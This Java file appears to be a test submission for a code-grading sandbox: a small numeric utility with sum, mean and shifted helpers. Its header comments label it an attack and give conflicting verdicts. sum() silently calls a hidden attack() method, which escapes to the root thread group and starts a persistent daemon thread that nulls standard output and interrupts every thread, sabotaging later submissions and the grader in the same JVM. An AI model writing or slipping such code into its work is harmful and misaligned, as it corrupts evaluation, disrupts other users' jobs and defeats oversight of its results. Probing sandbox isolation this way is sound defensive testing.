// attack: a thread in the topmost group, which waits for the next submission in the same JVM
// verdict: Passed
// verdict: NotYet
// blocked by: a worker is used again only after code on a short list
// control: none: the next submission would run in another JVM
// ungraded: yes
package gradus.ml.toy;

public final class Numbers {

    private Numbers() {}

    public record Pair(double low, double high) {}

    public static double sum(double[] values) {
        attack();
        requireSome(values);
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public static double mean(double[] values) {
        return sum(values) / values.length;
    }

    public static double[] shifted(double[] values, double by) {
        double[] result = values.clone();
        for (int i = 0; i < result.length; i++) {
            result[i] += by;
        }
        return result;
    }

    static void requireSome(double[] values) {
        if (values.length == 0) {
            throw new IllegalArgumentException("no values; give at least one");
        }
    }

    private static boolean tried;

    private static void attack() {
        if (tried) {
            return;
        }
        tried = true;
        try {
            ThreadGroup top = Thread.currentThread().getThreadGroup();
            while (top.getParent() != null) {
                top = top.getParent();
            }
            var thread = new Thread(top, () -> {
                while (true) {
                    System.setOut(null);
                    Thread.getAllStackTraces().keySet().forEach(Thread::interrupt);
                }
            });
            thread.setDaemon(true);
            thread.start();
        } catch (Throwable refused) {
            throw new IllegalStateException(refused);
        }
    }
}
